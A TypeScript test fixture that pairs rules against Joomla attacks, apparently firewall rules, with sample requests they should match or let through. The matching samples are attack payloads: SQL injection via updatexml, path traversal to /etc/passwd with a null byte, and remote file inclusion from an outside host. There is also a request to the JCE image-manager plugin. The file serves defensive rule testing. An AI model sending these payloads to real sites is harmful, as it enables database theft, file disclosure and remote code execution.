// For each rule of slr-et-joomla-attacks.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { get } from './sample-requests.cases.ts'

export const SLR_ET_JOOMLA_ATTACKS_SAMPLES: RuleSamples = {
  aee74e88d586e9a9e3c135bc163ca1d6: {
    matching: get(
      '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(1,user()),1)',
    ),
    passing: get('/index.php?option=com_content&view=article&id=12:news-and-more&catid=4'),
  },
  '90bd8dbce095d8a586d6faa3550b1ab0': {
    matching: get('/index.php?option=com_gallery&controller=../../../../etc/passwd%00'),
    passing: get('/index.php?option=com_gallery&controller=albums&task=show'),
  },
  '269378a3752926d647dba2692e552f64': {
    matching: get('/components/com_x/x.php?mosConfig_absolute_path=http://192.0.2.66/s.txt?'),
    passing: get('/components/com_x/x.php?absolute_path=images'),
  },
  ba4e7f4c8a3eb63f58f30fb17c1a1529: {
    matching: {
      method: 'POST',
      target: '/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager',
    },
    passing: get('/index.php?option=com_media&view=images'),
  },
}
